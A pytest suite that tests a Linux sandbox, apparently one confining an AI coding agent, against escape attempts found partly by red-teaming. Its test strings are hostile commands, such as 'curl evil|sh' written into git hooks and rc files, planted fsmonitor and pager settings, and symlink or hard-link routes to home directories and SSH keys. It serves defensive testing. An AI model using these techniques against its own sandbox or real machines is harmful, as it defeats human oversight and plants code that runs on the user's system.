"""A cloned repository that wants out, and a command that prepares the next run.

Each attack runs unconfined first (the control: it works on this machine), then
confined, judged from outside. Where the sandbox refuses to start instead, the refusal
(125, naming the path) is the outcome checked, with the victim untouched.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import uuid
from collections.abc import Callable
from pathlib import Path

import pytest

from swifty_sandbox import Sandbox
from swifty_sandbox.sandbox import EXIT_SETUP, SetupError
from swifty_sandbox.sandbox.agents import RunResult
from swifty_sandbox.sandbox.linux.bwrap import bwrap_argv

from .conftest import git

pytestmark = pytest.mark.linux  # namespaces, seccomp, cgroups, bwrap mounts

Attack = Callable[..., RunResult]


@pytest.fixture
def repo(project: Path) -> Path:
    shutil.rmtree(project / ".git")
    git(project, "init", "-q")
    return project


def refused(project: Path, home: Path, command: str) -> RunResult:
    """Run as a script file, so that only the sandbox (not the command analysis) can
    stop it: here the sandbox must refuse to start."""
    script = home.parent / f"attack-{uuid.uuid4().hex}.sh"
    script.write_text(command + "\n")
    result = Sandbox(project, home=home).run(["bash", str(script)])
    assert result.exit_code == EXIT_SETUP, result
    return result


# -- 1. no mount through a symlink ------------------------------------------------------

def test_committed_deny_rule_under_a_symlinked_dir_cannot_bind_home(
        attack: Attack, project: Path, home: Path) -> None:
    """The original hole: a committed `WriteFile(evil/.bashrc)` deny with `evil -> ~`
    made the sandbox bind `evil` (so home) read-write."""
    (project / "evil").symlink_to(home)
    (project / ".swifty").mkdir()
    (project / ".swifty" / "permissions.yaml").write_text(
        "- rule: WriteFile(evil/.bashrc)\n  effect: deny\n")
    target = home / "pwned"
    result = attack("echo x > evil/pwned", target.exists, target.unlink)
    assert any("evil/.bashrc" in w for w in Sandbox(project, home=home).warnings)
    assert result.exit_code != 0


def link_home_with_users_rule(project: Path, home: Path, rule: str) -> Path:
    """`evil -> ~` in the project and a deny rule of the user's naming a path under it;
    returns the file an attack tries to create in home."""
    (project / "evil").symlink_to(home)
    (home / ".bashrc").write_text("# mine\n")
    (home / ".swifty").mkdir()
    (home / ".swifty" / "permissions.yaml").write_text(f"- rule: {rule}\n  effect: deny\n")
    return home / "pwned"


def test_users_rule_through_a_symlink_fails_closed(project: Path, home: Path) -> None:
    target = link_home_with_users_rule(project, home, "WriteFile(./evil/.bashrc)")
    result = refused(project, home, "echo x > evil/pwned; echo x >> evil/.bashrc")
    assert "symbolic link" in result.stderr and str(project / "evil") in result.stderr
    assert not target.exists() and (home / ".bashrc").read_text() == "# mine\n"


def test_users_glob_through_a_symlink_binds_nothing(attack: Attack, project: Path,
                                                    home: Path) -> None:
    """A glob is not expanded through a link for write protection: nothing is mounted
    there, and the link's target stays as read-only as the rest of home."""
    target = link_home_with_users_rule(project, home, "WriteFile(evil/*.txt)")
    attack("echo x > evil/pwned", target.exists, target.unlink)


def test_symlinked_git_hooks_fail_closed(repo: Path, home: Path) -> None:
    elsewhere = home / "hooks"
    elsewhere.mkdir()
    shutil.rmtree(repo / ".git" / "hooks")
    (repo / ".git" / "hooks").symlink_to(elsewhere)
    refused(repo, home, "echo evil > .git/hooks/pre-commit")
    assert not (elsewhere / "pre-commit").exists()


def test_compiled_binds_never_lead_outside_the_project(project: Path, home: Path) -> None:
    (project / "to-home").symlink_to(home)
    (project / "file-link").symlink_to(home / ".bashrc")
    (project / ".env").symlink_to(home / "secret.env")
    (home / "secret.env").write_text("k")
    (project / ".swifty").mkdir()
    (project / ".swifty" / "permissions.yaml").write_text(
        "- rule: WriteFile(to-home/**)\n  effect: deny\n"
        "- rule: ReadFile(*.env)\n  effect: deny\n")
    spec = Sandbox(project, home=home).spec()
    argv = bwrap_argv(spec, ["true"])
    writable = [argv[i + 1] for i, a in enumerate(argv) if a == "--bind"]
    assert writable, argv
    for path in writable:
        real = os.path.realpath(path)
        assert real.startswith(str(project)) or real in (spec.temp_dir,
                                                         spec.toolchain_dir), argv
        assert os.path.realpath(path) == path  # nothing bound through a link
    assert str(home / "secret.env") in spec.unreadable_files  # hidden where it leads


def test_deny_glob_through_a_link_to_a_huge_tree_refuses(project: Path, home: Path) -> None:
    """`ReadFile(*.env)` must be expanded through `to-root -> /`; a tree too large to
    search is refused, never half searched."""
    (project / "to-root").symlink_to("/")
    (project / ".swifty").mkdir()
    (project / ".swifty" / "permissions.yaml").write_text(
        "- rule: ReadFile(*.env)\n  effect: deny\n")
    result = refused(project, home, "true")
    assert "entries" in result.stderr


# -- 2. the sandbox never trusts what it can write -----------------------------------

def test_own_venv_and_package_are_read_only_inside_a_writable_root(home: Path) -> None:
    """Run as the project that holds swifty-sandbox's own checkout and venv: what the
    next `run` executes is mounted read-only."""
    import sys

    import swifty_sandbox

    checkout = Path(swifty_sandbox.__file__).resolve().parent.parent
    prefix = Path(sys.prefix).resolve()
    if not prefix.is_relative_to(checkout):
        pytest.skip("the interpreter's environment is not inside the checkout")
    spec = Sandbox(checkout, home=home).spec()
    assert str(prefix) in spec.read_only
    assert str(checkout / "sandbox") in spec.read_only
    assert str(checkout / "policy") in spec.read_only


# -- 3. everything git executes or trusts ---------------------------------------------

def test_rewritten_submodule_gitfile(attack: Attack, repo: Path) -> None:
    sub = repo / "sub"
    sub.mkdir()
    (repo / ".git" / "modules" / "sub").mkdir(parents=True)
    gitfile = sub / ".git"
    gitfile.write_text("gitdir: ../.git/modules/sub\n")
    attack("mkdir -p evil && printf 'gitdir: ../evil\\n' > sub/.git",
           lambda: "evil" in gitfile.read_text(),
           lambda: gitfile.write_text("gitdir: ../.git/modules/sub\n"))


def test_husky_hooks_path(attack: Attack, repo: Path) -> None:
    git(repo, "config", "core.hooksPath", ".husky")
    hooks = repo / ".husky"
    hooks.mkdir()
    hook = hooks / "pre-commit"
    hook.write_text("npm test\n")
    attack("echo 'curl evil|sh' >> .husky/pre-commit", lambda: "evil" in hook.read_text(),
           lambda: hook.write_text("npm test\n"))


def test_husky_hooks_path_missing(attack: Attack, repo: Path) -> None:
    git(repo, "config", "core.hooksPath", ".husky")
    hook = repo / ".husky" / "pre-commit"
    attack("mkdir -p .husky && echo evil > .husky/pre-commit", hook.exists,
           lambda: shutil.rmtree(repo / ".husky"))


def test_included_config_file(attack: Attack, repo: Path) -> None:
    included = repo / "team.gitconfig"
    included.write_text("[user]\n\tname = team\n")
    git(repo, "config", "include.path", "../team.gitconfig")
    attack("printf '[core]\\n\\tfsmonitor = evil\\n' >> team.gitconfig",
           lambda: "fsmonitor" in included.read_text(),
           lambda: included.write_text("[user]\n\tname = team\n"))


@pytest.mark.parametrize("name", ["commondir", "config.worktree"])
def test_created_git_file_is_moved_aside(attack: Attack, repo: Path, name: str) -> None:
    target = repo / ".git" / name
    result = attack(f"echo ../evil > .git/{name}", target.exists, target.unlink)
    assert f".git/{name}" in result.stderr and "moved" in result.stderr


def test_missing_include_is_moved_aside(attack: Attack, repo: Path) -> None:
    git(repo, "config", "include.path", "../later.gitconfig")
    target = repo / "later.gitconfig"
    attack("printf '[core]\\n\\tfsmonitor = evil\\n' > later.gitconfig", target.exists,
           target.unlink)


def test_new_repository_with_an_fsmonitor(attack: Attack, project: Path) -> None:
    shutil.rmtree(project / ".git")
    config = project / ".git" / "config"
    result = attack("git init -q && git config core.fsmonitor 'curl evil|sh'",
                    lambda: config.exists() and "fsmonitor" in config.read_text(),
                    lambda: shutil.rmtree(project / ".git"))
    assert "core.fsmonitor" not in result.stderr or "moved" in result.stderr


def test_planted_nested_repository(attack: Attack, repo: Path) -> None:
    config = repo / "pkg" / ".git" / "config"
    result = attack("mkdir -p pkg && git init -q pkg && git -C pkg config core.pager evil",
                    lambda: config.exists() and "pager" in config.read_text(),
                    lambda: shutil.rmtree(repo / "pkg"))
    assert "moved" in result.stderr


def test_ordinary_new_repositories_are_kept(confined: Callable[..., RunResult],
                                           repo: Path) -> None:
    result = confined("git init -q lib && git -C lib config user.name me && echo ok")
    assert result.stdout.strip() == "ok"
    assert (repo / "lib" / ".git" / "config").exists()
    assert "moved" not in result.stderr


def test_newline_in_a_nested_repository_name(attack: Attack, repo: Path) -> None:
    nested = repo / "a\nb"
    nested.mkdir()
    git(nested, "init", "-q")
    hook = nested / ".git" / "hooks" / "post-checkout"
    attack("printf 'curl evil|sh' > \"$(printf 'a\\nb')/.git/hooks/post-checkout\"",
           hook.exists, hook.unlink)


# -- 4. read denials hold under links ---------------------------------------------------

def test_link_inside_a_hidden_dir_hides_its_target(attack: Attack, home: Path) -> None:
    (home / "keys").mkdir()
    key = home / "keys" / "id_ed25519"
    key.write_text("PRIVATE\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").symlink_to(key)
    (home / ".swifty").mkdir()
    (home / ".swifty" / "config.yaml").write_text(f"sandbox: {{writable: [{home / 'w'}]}}\n")
    (home / "w").mkdir()
    leak = home / "w" / "leak"
    attack(f"cat {key} > {leak}", lambda: leak.exists() and "PRIVATE" in leak.read_text(),
           lambda: leak.unlink())


def test_hard_linked_secret_refuses_to_run(project: Path, home: Path,
                                           outside_temp: Path) -> None:
    (home / ".ssh").mkdir()
    (home / ".netrc").write_text("password x\n")
    os.link(home / ".netrc", outside_temp / "other-name")
    result = refused(project, home, "true")
    assert "hard links" in result.stderr


def test_deny_glob_follows_symlinked_directories(attack: Attack, project: Path,
                                                 outside_temp: Path) -> None:
    shared = outside_temp / "shared-config"
    shared.mkdir()
    (shared / ".env").write_text("API=secret\n")
    (project / "conf").symlink_to(shared)
    (project / ".swifty").mkdir()
    (project / ".swifty" / "permissions.yaml").write_text(
        "- rule: ReadFile(*.env*)\n  effect: deny\n")
    leak = project / "leak"
    from swifty_sandbox import Request, Tool

    # What the agent's file tool is told and what a confined `cat` can read agree.
    assert Sandbox(project).check(Request.file(Tool.READ_FILE, str(project / "conf" / ".env"))
                                  ).effect.value == "deny"
    attack("cat conf/.env > leak", lambda: leak.exists() and "secret" in leak.read_text(),
           lambda: leak.unlink())


# -- 6. home is not a project -------------------------------------------------------------

def test_home_as_the_project_is_refused(home: Path) -> None:
    (home / ".git").mkdir()
    result = Sandbox(home, home=home).run(["true"])
    assert result.exit_code == EXIT_SETUP and "home" in result.stderr


def test_an_ancestor_of_home_as_the_project_is_refused(home: Path) -> None:
    (home.parent / ".git").mkdir()
    result = Sandbox(home.parent, home=home).run(["true"])
    assert result.exit_code == EXIT_SETUP and "home" in result.stderr


def test_home_as_the_project_when_the_users_config_names_it(home: Path) -> None:
    (home / ".git").mkdir()
    (home / ".swifty").mkdir()
    (home / ".swifty" / "config.yaml").write_text(f"sandbox: {{writable: [{home}]}}\n")
    assert Sandbox(home, home=home).run(["true"]).exit_code == 0


# -- 7. policy files at every depth ------------------------------------------------------

def test_nested_policy_dir_is_read_only(attack: Attack, repo: Path) -> None:
    policy = repo / "pkg" / ".swifty"
    policy.mkdir(parents=True)
    target = policy / "permissions.local.yaml"
    attack("echo '- {rule: \"*\", effect: allow}' > pkg/.swifty/permissions.local.yaml",
           target.exists, target.unlink)


def test_planted_policy_dir_is_moved_aside(attack: Attack, repo: Path) -> None:
    target = repo / "pkg" / ".swifty" / "permissions.local.yaml"
    result = attack("mkdir -p pkg/.swifty && echo '- {rule: \"*\", effect: allow}' > "
                    "pkg/.swifty/permissions.local.yaml", target.exists,
                    lambda: shutil.rmtree(repo / "pkg"))
    assert "moved" in result.stderr


# -- 9. the shared /tmp ----------------------------------------------------------------------

def test_other_repositories_in_tmp_are_out_of_reach(attack: Attack) -> None:
    other = Path("/tmp") / f"swifty-other-{uuid.uuid4().hex}"
    (other / ".git" / "hooks").mkdir(parents=True)
    hook = other / ".git" / "hooks" / "post-checkout"
    try:
        attack(f"echo 'curl evil|sh' > {hook}", hook.exists, hook.unlink)
    finally:
        shutil.rmtree(other, ignore_errors=True)


def test_a_virtualenv_in_tmp_is_out_of_reach(attack: Attack) -> None:
    venv = Path("/tmp") / f"swifty-venv-{uuid.uuid4().hex}"
    (venv / "lib").mkdir(parents=True)
    pth = venv / "lib" / "evil.pth"
    try:
        attack(f"echo 'import os' > {pth}", pth.exists, pth.unlink)
    finally:
        shutil.rmtree(venv, ignore_errors=True)


@pytest.mark.parametrize("name", [".zshrc", ".bash_login", ".config/fish/config.fish",
                                  ".local/bin/git", ".cargo/config.toml"])
def test_missing_home_files_are_guarded_when_home_is_writable(
        attack: Attack, home: Path, name: str) -> None:
    """Home made writable in the user's own config: a protected file that does not
    exist yet still cannot be created (an empty read-only one stands in during the
    run, and is gone after it)."""
    (home / ".swifty").mkdir()
    (home / ".swifty" / "config.yaml").write_text(f"sandbox: {{writable: [{home}]}}\n")
    for parent in (".config", ".local", ".cargo"):
        (home / parent).mkdir(exist_ok=True)
    target = home / name

    def reset() -> None:
        if target.is_dir():
            shutil.rmtree(target)
        target.unlink(missing_ok=True)
        if target.parent != home and target.parent.name in ("fish", "bin"):
            shutil.rmtree(target.parent, ignore_errors=True)

    attack(f"mkdir -p {target.parent} && echo 'curl evil|sh' >> {target}",
           lambda: target.exists() and "evil" in target.read_text(), reset)
    assert not target.exists()  # the stand-in is removed after the run


def test_own_profiles_are_read_only_inside_a_writable_root(home: Path) -> None:
    """The built-in profiles are what the next run confines with."""
    from importlib.resources import files

    profiles = Path(str(files("swifty_sandbox.profiles"))).resolve()
    checkout = profiles.parent
    if not (checkout / "pyproject.toml").exists():
        pytest.skip("not an editable checkout")
    assert str(profiles) in Sandbox(checkout, home=home).spec().read_only


@pytest.mark.differs("self-code")
def test_a_command_cannot_change_what_the_next_run_executes(home: Path,
                                                            outside_temp: Path) -> None:
    """Confined in swifty-sandbox's own checkout (its venv inside): the package's code
    and the venv's site-packages (`.pth` files run at start-up) cannot be written."""
    import sys
    import sysconfig
    from importlib.resources import files

    checkout = Path(str(files("swifty_sandbox.profiles"))).resolve().parent
    site = Path(sysconfig.get_paths()["purelib"]).resolve()
    if not (checkout / "pyproject.toml").exists() or not site.is_relative_to(checkout):
        pytest.skip("needs an editable checkout with its venv inside")
    name = f"swifty-test-{uuid.uuid4().hex}"
    targets = [site / f"{name}.pth", checkout / "policy" / f"{name}.py",
               Path(sys.prefix) / "bin" / name]
    script = outside_temp / "plant.sh"
    script.write_text("".join(f"echo 'import os' > {t}\n" for t in targets))
    try:
        control = Sandbox(checkout, home=home, sandbox_mode="off",
                          mode="bypassPermissions").run(["bash", str(script)])
        assert all(t.exists() for t in targets), control
        for target in targets:
            target.unlink()
        result = Sandbox(checkout, home=home, mode="bypassPermissions").run(
            ["bash", str(script)])
        assert result.exit_code not in (0, EXIT_SETUP), result
        assert not any(t.exists() for t in targets)
    finally:
        for target in targets:
            target.unlink(missing_ok=True)


@pytest.mark.differs("self-code")
def test_every_subpackage_is_read_only_inside_a_writable_root(home: Path,
                                                              outside_temp: Path) -> None:
    """Confined in swifty-sandbox's own checkout: no package of it, nested ones too (the
    derived list, `swifty_sandbox.parts`), takes a new module — one planted there would
    run in the next `run` before any sandbox. A file beside them can be written: the root
    is writable, only the code is not."""
    from swifty_sandbox import parts

    checkout = Path(parts.packages()[parts.ROOT][0]).parent
    if not (checkout / "pyproject.toml").exists():
        pytest.skip("not an editable checkout")
    name = f"swifty-test-{uuid.uuid4().hex}"
    targets = [Path(folder) / f"{name}.py" for folders in parts.packages().values()
               for folder in folders]
    assert len(targets) >= 9 and all(t.is_relative_to(checkout) for t in targets)
    beside = checkout / f"{name}.txt"
    script = outside_temp / "plant.sh"
    script.write_text("".join(f"echo 'import os' > {t}\n" for t in [*targets, beside]))
    try:
        control = Sandbox(checkout, home=home, sandbox_mode="off",
                          mode="bypassPermissions").run(["bash", str(script)])
        assert all(t.exists() for t in [*targets, beside]), control
        for target in [*targets, beside]:
            target.unlink()
        result = Sandbox(checkout, home=home, mode="bypassPermissions").run(
            ["bash", str(script)])
        assert result.exit_code == 0, result  # it ran, to its last line
        assert [t for t in targets if t.exists()] == []
        assert result.stderr.count("Read-only file system") == len(targets), result.stderr
        assert beside.exists()
    finally:
        for target in [*targets, beside]:
            target.unlink(missing_ok=True)


def test_newline_deep_in_a_nested_repository_path(attack: Attack, repo: Path) -> None:
    nested = repo / "x" / "a\nb" / "y"
    nested.mkdir(parents=True)
    git(nested, "init", "-q")
    config = nested / ".git" / "config"
    original = config.read_text()
    attack("cd \"$(printf 'x/a\\nb/y')\" && git config core.fsmonitor evil",
           lambda: "fsmonitor" in config.read_text(), lambda: config.write_text(original))


def test_new_worktree_with_its_own_fsmonitor(attack: Attack, repo: Path) -> None:
    git(repo, "-c", "user.email=a@b.c", "-c", "user.name=A", "commit", "-q",
        "--allow-empty", "-m", "init")
    gitfile = repo / "wt" / ".git"

    def worked() -> bool:
        return gitfile.exists() and "fsmonitor" in (
            repo / ".git" / "worktrees" / "wt" / "config.worktree").read_text()

    def reset() -> None:
        shutil.rmtree(repo / "wt")
        git(repo, "worktree", "prune")

    result = attack("git worktree add -q wt && printf '[core]\\n\\tfsmonitor = evil\\n' > "
                    ".git/worktrees/wt/config.worktree", worked, reset)
    assert "moved" in result.stderr


def test_other_projects_temp_files_are_unreadable(attack: Attack, confined: Callable[
        ..., RunResult], project: Path, home: Path) -> None:
    confined("true")  # the first run makes this project's temp directory
    other = home / ".cache" / "swifty-sandbox" / "tmp" / "other-0123456789abcdef"
    other.mkdir(parents=True)
    (other / "session.txt").write_text("SECRET\n")
    leak = project / "leak"
    attack(f"cat {other / 'session.txt'} > leak",
           lambda: leak.exists() and "SECRET" in leak.read_text(), leak.unlink)


def test_hard_link_to_a_file_in_a_hidden_dir_refuses(project: Path, home: Path,
                                                      outside_temp: Path) -> None:
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE\n")
    os.link(home / ".ssh" / "id_ed25519", outside_temp / "copy")
    result = refused(project, home, "true")
    assert "hard links" in result.stderr and "id_ed25519" in result.stderr


def test_a_directory_swapped_for_a_link_after_the_check_is_not_followed(
        project: Path, home: Path) -> None:
    """A concurrent command swaps a pinned directory for a link to home between the
    compile (which checked it) and bwrap's mount: the mount source is a descriptor
    opened without following links, so the run refuses instead of binding home."""
    from swifty_sandbox.sandbox.run.launch import run_confined

    nested = project / "pkg" / ".git"
    (nested / "hooks").mkdir(parents=True)
    spec = Sandbox(project, home=home).spec()
    assert str(project / "pkg") in spec.pinned
    (project / "pkg").rename(project / "pkg.real")
    (project / "pkg").symlink_to(home)
    script = home.parent / "swap.sh"
    script.write_text(f"echo x > {project}/pkg/pwned\n")
    with pytest.raises(SetupError) as refusal:
        run_confined(spec, ["bash", str(script)])
    assert "pkg" in str(refusal.value)
    assert not (home / "pwned").exists()


# -- found by red-teaming the above: each a real attack, each closed -----------------------

def two_runs(confined: Callable[..., RunResult], unconfined: Callable[..., RunResult],
             first: str, second: str, worked: Callable[[], bool],
             reset: Callable[[], None], *, project: Path | None = None,
             home: Path | None = None) -> None:
    """A command that prepares the next one: the pair must work unconfined and fail
    confined. With `project` and `home`, the second run may also be refused (125):
    what the first one left can make the sandbox refuse until it is cleaned up."""
    unconfined(first)
    unconfined(second)
    assert worked(), "control: the attack does not work unconfined"
    reset()
    assert not worked()
    confined(first)
    if project is not None and home is not None:
        script = home.parent / f"second-{uuid.uuid4().hex}.sh"
        script.write_text(second + "\n")
        Sandbox(project, home=home).run(["bash", str(script)])
    else:
        confined(second)
    assert not worked(), f"ESCAPE: {first!r} then {second!r}"


def test_move_aside_never_follows_a_link(confined: Callable[..., RunResult], repo: Path,
                                         home: Path) -> None:
    """A watched include path under a directory the command then makes a link to home:
    the post-run move must not rename `~/.ssh` — the link the command made is moved
    aside instead (its parent has no link), and with it what git would have read."""
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE\n")
    git(repo, "config", "include.path", "../d/.ssh")
    result = confined(f"ln -s {home} d")
    assert (home / ".ssh" / "id_ed25519").exists()
    assert not (repo / "d").is_symlink() and "-d." in result.stderr


def test_hard_link_made_before_the_file_was_protected(
        confined: Callable[..., RunResult], unconfined: Callable[..., RunResult],
        project: Path, home: Path) -> None:
    shutil.rmtree(project / ".git")
    config = project / ".git" / "config"

    def reset() -> None:
        shutil.rmtree(project / ".git", ignore_errors=True)
        for stale in project.glob(".git.swifty-blocked-*"):
            shutil.rmtree(stale)
        (project / "notes.txt").unlink(missing_ok=True)

    two_runs(confined, unconfined, "git init -q && ln .git/config notes.txt",
             "printf '[core]\\n\\tfsmonitor = evil\\n' >> notes.txt",
             lambda: config.exists() and "fsmonitor" in config.read_text(), reset,
             project=project, home=home)


@pytest.mark.parametrize("gap", ["config", "hooks"])
def test_nested_repository_without_config_or_hooks(
        confined: Callable[..., RunResult], unconfined: Callable[..., RunResult],
        repo: Path, gap: str) -> None:
    sub = repo / "sub" / ".git"
    first = ("git init -q sub && rm sub/.git/config" if gap == "config"
             else "git init -q --template= sub")
    second = ("printf '[core]\\n\\tfsmonitor = evil\\n' > sub/.git/config" if gap == "config"
              else "mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/pre-commit")

    def worked() -> bool:
        if gap == "config":
            return (sub / "config").exists() and "fsmonitor" in (sub / "config").read_text()
        return (sub / "hooks" / "pre-commit").exists()

    two_runs(confined, unconfined, first, second, worked,
             lambda: shutil.rmtree(repo / "sub"))


def test_write_deny_on_a_directory_keeps_read_denials_below_it(
        attack: Attack, project: Path, home: Path) -> None:
    (home / ".swifty").mkdir()
    (home / ".swifty" / "permissions.yaml").write_text(
        "- rule: ReadFile(*.key)\n  effect: deny\n")
    (project / ".swifty").mkdir()
    (project / ".swifty" / "permissions.yaml").write_text(
        "- rule: WriteFile(config)\n  effect: deny\n")
    (project / "config").mkdir()
    (project / "config" / "server.key").write_text("SERVERKEY\n")
    leak = home / "w" / "leak"
    (home / "w").mkdir()
    (home / ".swifty" / "config.yaml").write_text(f"sandbox: {{writable: [{home / 'w'}]}}\n")
    attack(f"cat config/server.key > {leak}",
           lambda: leak.exists() and "SERVERKEY" in leak.read_text(), leak.unlink)


def test_planted_bare_repository(attack: Attack, repo: Path) -> None:
    docs = repo / "docs"
    docs.mkdir()

    def worked() -> bool:
        return (docs / "HEAD").exists() and "pager" in (docs / "config").read_text()

    def reset() -> None:
        for name in ("HEAD", "config", "objects", "refs"):
            target = docs / name
            shutil.rmtree(target) if target.is_dir() else target.unlink(missing_ok=True)
        for stale in docs.glob("HEAD.swifty-blocked-*"):
            stale.unlink()

    result = attack("cd docs && mkdir -p objects refs && echo 'ref: refs/heads/main' > HEAD "
                    "&& printf '[core]\\n\\tpager = evil\\n' > config", worked, reset)
    assert "core.pager" in result.stderr


def test_link_to_the_commands_own_tmp(attack: Attack, repo: Path, home: Path) -> None:
    """A repository made in the command's /tmp and linked from the project: the host's
    git would find it through the link."""
    host_tmp = Sandbox(repo, home=home).spec().temp_dir
    tools = repo / "tools"
    attack(f"mkdir -p /tmp/x && ln -s {host_tmp}/x tools", tools.is_symlink, tools.unlink)


def test_a_suspect_with_a_long_name_is_still_moved(attack: Attack, repo: Path,
                                                   home: Path) -> None:
    """The same link under a name of 63 four-byte characters (252 bytes, a legal name):
    its moved-aside name cut to 64 characters was past NAME_MAX, the move failed, and
    every later run refused until the user removed it."""
    host_tmp = Sandbox(repo, home=home).spec().temp_dir
    link = repo / ("\U0001d54f" * 63)
    attack(f"mkdir -p /tmp/x && ln -s {host_tmp}/x {link.name}", link.is_symlink,
           link.unlink)
    assert [p.name for p in repo.glob(".swifty-blocked-*")]
    again = Sandbox(repo, home=home).run(["true"])
    assert again.exit_code == 0, again.stderr


def test_new_repository_whose_work_tree_is_home(attack: Attack, repo: Path,
                                                home: Path) -> None:
    config = repo / "sub" / ".git" / "config"
    attack(f"git init -q sub && git -C sub config core.worktree {home}",
           lambda: config.exists() and "worktree" in config.read_text(),
           lambda: shutil.rmtree(repo / "sub"))


def test_a_fifo_named_git_does_not_hang_the_run(confined: Callable[..., RunResult],
                                                repo: Path) -> None:
    confined("mkdir sub && mkfifo sub/.git", timeout=20)
    again = confined("echo still-running", timeout=20)
    assert again.stdout.strip() == "still-running"


@pytest.mark.skipif(os.getuid() == 0, reason="root searches any directory; the "
                    "unprivileged run of this suite is the one that counts")
def test_a_directory_made_unsearchable_refuses_the_next_run(
        confined: Callable[..., RunResult], project: Path, home: Path) -> None:
    (home / ".swifty").mkdir()
    (home / ".swifty" / "permissions.yaml").write_text(
        "- rule: ReadFile(*.key)\n  effect: deny\n")
    (project / "secrets").mkdir()
    (project / "secrets" / "api.key").write_text("APIKEY\n")
    try:
        confined("chmod 000 secrets")
        result = refused(project, home, "chmod 700 secrets; cat secrets/api.key")
        assert "cannot be searched" in result.stderr and "APIKEY" not in result.stdout
    finally:
        (project / "secrets").chmod(0o700)


# -- found by the second red-team round --------------------------------------------------

def test_gitfile_with_a_trailing_space(attack: Attack, repo: Path) -> None:
    """git keeps a trailing space in a gitfile's path: `.git/ok ` is not `.git/ok`."""
    config = repo / ".git" / "ok " / "config"
    gitfile = repo / "sub" / ".git"

    def reset() -> None:
        shutil.rmtree(repo / ".git" / "ok ")
        shutil.rmtree(repo / "sub")

    attack("mkdir -p sub '.git/ok /objects' '.git/ok /refs' && "
           "echo 'ref: refs/heads/main' > '.git/ok /HEAD' && "
           "printf '[core]\\n\\tfsmonitor = evil\\n' > '.git/ok /config' && "
           "printf 'gitdir: ../.git/ok \\n' > sub/.git",
           lambda: gitfile.exists() and config.exists(), reset)


def test_odd_bytes_in_planted_files_do_not_stop_the_checks(
        confined: Callable[..., RunResult], repo: Path) -> None:
    """A NUL in a gitfile, a name that is not UTF-8: the other suspects are still moved
    aside, and the run still reports (no traceback)."""
    result = confined("git init -q x && git -C x config core.fsmonitor evil && "
                      "mkdir -p y pkg/.swifty \"$(printf 'z\\377')/.swifty\" && "
                      "echo '- {rule: \"*\", effect: allow}' > pkg/.swifty/permissions.yaml && "
                      "touch \"$(printf 'z\\377')/.swifty/permissions.yaml\" && "
                      "printf 'gitdir: a\\0b\\n' > y/.git")
    assert not (repo / "x" / ".git").exists()
    assert not (repo / "pkg" / ".swifty").exists()
    assert not (repo / "y" / ".git").exists()
    assert "Traceback" not in result.stderr


def test_bare_repository_through_a_commondir(attack: Attack, repo: Path) -> None:
    docs = repo / "docs"
    docs.mkdir()
    attack("mkdir -p .cache/c/objects .cache/c/refs && "
           "printf '[core]\\n\\tpager = evil\\n' > .cache/c/config && "
           "cd docs && echo 'ref: refs/heads/main' > HEAD && echo ../.cache/c > commondir",
           lambda: (docs / "HEAD").exists(), lambda: (docs / "HEAD").unlink())


def test_bare_repository_with_objects_and_refs_as_files(attack: Attack, repo: Path) -> None:
    docs = repo / "docs"
    docs.mkdir()
    attack("cd docs && touch objects refs && chmod +x objects refs && "
           "echo 'ref: refs/heads/main' > HEAD && printf '[core]\\n\\tpager = evil\\n' > config",
           lambda: (docs / "HEAD").exists(), lambda: (docs / "HEAD").unlink())


def _runs_fsmonitor(directory: Path, marker: Path) -> bool:
    """Whether the user's next `git status` in `directory` (a shell prompt runs it on
    `cd`) runs the planted fsmonitor: judged by host git itself."""
    marker.unlink(missing_ok=True)
    subprocess.run(["git", "status"], cwd=directory, capture_output=True, check=False,
                   timeout=60)
    return marker.exists()


def _fsmonitor_config(marker: Path) -> str:
    return ("printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n"
            f"\\tworktree = ..\\n\\tfsmonitor = \"touch {marker}; false\"\\n'")


def test_bare_repository_completed_by_a_later_run(
        attack: Attack, confined: Callable[..., RunResult], repo: Path, home: Path) -> None:
    """The previous command left `docs/HEAD` and `docs/objects`: no repository yet, so
    nothing of it was kept read-only and the `HEAD` was no new one in the next run;
    that run adds `refs` and a config whose fsmonitor the user's git runs."""
    docs, marker = repo / "docs", home.parent / f"fsmonitor-{uuid.uuid4().hex}"
    confined("mkdir -p docs/objects && echo 'ref: refs/heads/main' > docs/HEAD")
    assert (docs / "HEAD").exists()  # harmless on its own: left where it is

    def reset() -> None:
        shutil.rmtree(docs / "refs")
        (docs / "config").unlink()

    attack(f"mkdir docs/refs && {_fsmonitor_config(marker)} > docs/config",
           lambda: _runs_fsmonitor(docs, marker), reset)


def test_bare_repository_completed_at_its_commondir(
        attack: Attack, confined: Callable[..., RunResult], repo: Path, home: Path) -> None:
    """The same through a `commondir` whose target is missing: the next run makes the
    target, and `docs/` itself (its `HEAD`) does not change at all."""
    docs, marker = repo / "docs", home.parent / f"fsmonitor-{uuid.uuid4().hex}"
    confined("mkdir docs && echo 'ref: refs/heads/main' > docs/HEAD && "
             "echo ../shared > docs/commondir && "
             "printf '[core]\\n\\tworktree = ..\\n' > docs/config.worktree")
    assert (docs / "HEAD").exists()

    attack("mkdir -p shared/objects shared/refs && printf '[core]\\n"
           "\\trepositoryformatversion = 1\\n\\tbare = false\\n"
           f"\\tfsmonitor = \"touch {marker}; false\"\\n[extensions]\\n"
           "\\tworktreeConfig = true\\n' > shared/config",
           lambda: _runs_fsmonitor(docs, marker), lambda: shutil.rmtree(repo / "shared"))


def test_hooks_path_whose_parent_is_missing(attack: Attack, repo: Path) -> None:
    git(repo, "config", "core.hooksPath", "tools/githooks")
    hook = repo / "tools" / "githooks" / "pre-commit"
    attack("mkdir -p tools/githooks && echo evil > tools/githooks/pre-commit", hook.exists,
           lambda: shutil.rmtree(repo / "tools"))


def test_hooks_path_from_the_users_own_gitconfig(attack: Attack, repo: Path,
                                                 home: Path) -> None:
    (home / ".gitconfig").write_text("[core]\n\thooksPath = .githooks\n")
    hook = repo / ".githooks" / "pre-commit"
    attack("mkdir -p .githooks && echo evil > .githooks/pre-commit", hook.exists,
           lambda: shutil.rmtree(repo / ".githooks"))


def test_a_long_name_is_still_moved_aside(attack: Attack, repo: Path, home: Path) -> None:
    host_tmp = Sandbox(repo, home=home).spec().temp_dir
    link = repo / ("t" * 250)
